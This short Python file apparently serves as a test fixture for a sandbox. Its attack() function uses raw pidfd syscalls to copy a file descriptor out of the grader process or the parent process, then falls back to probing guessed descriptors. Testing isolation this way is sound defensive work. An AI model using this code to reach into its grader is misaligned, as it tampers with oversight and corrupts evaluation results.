"""Wants a copy of a descriptor that the grader holds."""

import ctypes
import os

PIDFD_OPEN, PIDFD_GETFD, PIDFD_SEND_SIGNAL = 434, 438, 424


def attack():
    libc = ctypes.CDLL(None)
    for pid in (int("$GRADER"), os.getppid(), os.getpid()):
        handle = libc.syscall(PIDFD_OPEN, pid, 0)
        if handle >= 0:
            return pid, libc.syscall(PIDFD_GETFD, handle, 0, 0)
    for guess in range(3, 10):
        if libc.syscall(PIDFD_SEND_SIGNAL, guess, 0, None, 0) == 0:
            return "signal 0", guess
